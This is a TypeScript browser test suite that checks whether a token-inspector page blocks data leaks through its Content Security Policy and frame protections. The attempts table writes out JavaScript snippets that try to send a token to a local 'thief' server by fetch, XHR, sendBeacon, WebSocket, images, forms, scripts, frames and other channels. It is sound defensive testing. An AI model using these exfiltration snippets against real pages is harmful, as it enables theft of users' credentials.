/** What is pasted into the inspector's page stays there: nothing is asked for, and what is tried from within is stopped. */
import { createServer, type Server } from "node:http";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { everyToken, type InspectStage, openInspect, startInspectStage } from "./support/inspect-page.ts";
import { listenLocally } from "./support/listening.ts";
import { testServer } from "./support/server.ts";

let stage: InspectStage;
let thief: Thief;
beforeAll(async () => {
  stage = await startInspectStage(["--dev"]);
  thief = await startThief();
});
afterAll(async () => {
  await thief.close();
  await stage.close();
});

test("HP-11: whatever is pasted and whatever is clicked, no request leaves the page and nothing is stored", async () => {
  const { page, paste, requests, complaints } = await openInspect(stage, "/inspect");
  const address = page.url();
  const tokens = await everyToken(stage);
  for (const token of Object.values(tokens)) {
    await paste(token);
    for (const name of ["Copy", "Copy JSON"]) await copyFirst(page, name);
    const [keys] = await page.getByRole("button", { name: "Paste its keys", exact: true }).all();
    await keys?.click();
  }
  await page.getByRole("button", { name: "Try a sample" }).click();
  await page.getByText("Nothing wrong was found.", { exact: true }).waitFor();
  await page.getByRole("button", { name: "Clear" }).click();
  await page.locator("#what").waitFor({ state: "detached" });
  expect([requests, complaints, page.url()]).toEqual([[], [], address]);
  expect(await page.evaluate("[localStorage.length, sessionStorage.length, document.cookie]")).toEqual([
    0,
    0,
    "",
  ]);
  expect(await page.evaluate("indexedDB.databases().then((all) => all.length)")).toBe(0);
});

/** Until it is copied: a browser that refuses its clipboard says so later, and then the selection moves. */
async function copyFirst(page: Page, name: string): Promise<void> {
  const [first] = await page.getByRole("button", { name, exact: true }).all();
  const button = await first?.elementHandle();
  await button?.click();
  await button?.waitForSelector("text=Copied");
}

/** Each tries to take a token to the thief, or to run a stranger's text. */
const attempts: Readonly<Record<string, (place: string) => string>> = {
  "connect-src by fetch": (place) => `fetch("${place}/fetch?t").catch(() => 0)`,
  "connect-src by fetch of this server's own": () =>
    `fetch("/oauth2/token?t", { method: "POST" }).catch(() => 0)`,
  "connect-src by XMLHttpRequest": (place) =>
    `(() => { const r = new XMLHttpRequest(); r.open("POST", "${place}/xhr"); try { r.send("t"); } catch {} })()`,
  "connect-src by sendBeacon": (place) => `navigator.sendBeacon("${place}/beacon", "t")`,
  "connect-src by WebSocket": (place) =>
    `(() => { try { new WebSocket("${place.replace("http", "ws")}/ws"); } catch {} })()`,
  "connect-src by EventSource": (place) =>
    `(() => { try { new EventSource("${place}/events"); } catch {} })()`,
  "img-src": (place) => `(() => { new Image().src = "${place}/image?t"; })()`,
  "form-action": (place) => `(() => {
    const form = document.createElement("form");
    form.method = "post"; form.action = "${place}/form";
    document.body.append(form); form.submit();
  })()`,
  "script-src-elem": (place) => `import("${place}/script.js").catch(() => 0)`,
  "require-trusted-types-for": () => `(() => { try { document.body.innerHTML = "<b>a</b>"; } catch {} })()`,
  "style-src-attr": (place) => `document.body.setAttribute("style", "background: url(${place}/style)")`,
  "style-src-elem": (place) => `(() => {
    const link = document.createElement("link");
    link.rel = "stylesheet"; link.href = "${place}/style.css";
    document.head.append(link);
  })()`,
  "frame-src": (place) => `(() => {
    const frame = document.createElement("iframe");
    frame.src = "${place}/frame?t"; document.body.append(frame);
  })()`,
  "media-src": (place) => `(() => { new Audio("${place}/audio?t").load(); })()`,
  "base-uri": (place) => `(() => {
    const base = document.createElement("base");
    base.href = "${place}/"; document.head.append(base);
  })()`,
};

test.each(Object.entries(attempts))("HP-02: %s is stopped by the policy", async (name, attempt) => {
  const [directive = ""] = name.split(" ");
  const { page, paste } = await openInspect(stage, "/inspect");
  await paste(stage.access);
  await listen(page);
  await page.evaluate(attempt(thief.place));
  await expect.poll(() => page.evaluate("window.violations")).toContain(directive);
  expect(thief.visits.filter((url) => !url.startsWith("/frames"))).toEqual([]);
});

test("HP-09: no other page can hold it in a frame", async () => {
  const { page, complaints } = await openInspect(stage, "/inspect");
  // A development server refuses other sites' pages outright.
  const { url } = await testServer();
  await page.goto(`${thief.place}/frames?${url}/inspect`);
  await expect.poll(() => complaints.join()).toMatch(/frame-ancestors|X-Frame-Options/i);
  expect(await page.frameLocator("iframe").locator("#token").count()).toBe(0);
});

async function listen(page: Page): Promise<void> {
  await page.evaluate(`window.violations = [];
    document.addEventListener("securitypolicyviolation", (event) => window.violations.push(event.effectiveDirective))`);
}

interface Thief {
  readonly place: string;
  readonly visits: string[];
  close(): Promise<void>;
}

/** A server that would be glad of anything. */
async function startThief(): Promise<Thief> {
  const visits: string[] = [];
  const server: Server = createServer((request, response) => {
    const { url = "" } = request;
    visits.push(url);
    const [, framed] = url.split("?");
    response.setHeader("content-type", "text/html").setHeader("access-control-allow-origin", "*");
    response.end(url.startsWith("/frames") ? `<!doctype html><iframe src="${framed}"></iframe>` : "");
  });
  const { port, close } = await listenLocally(server);
  return { place: `http://127.0.0.1:${port}`, visits, close };
}
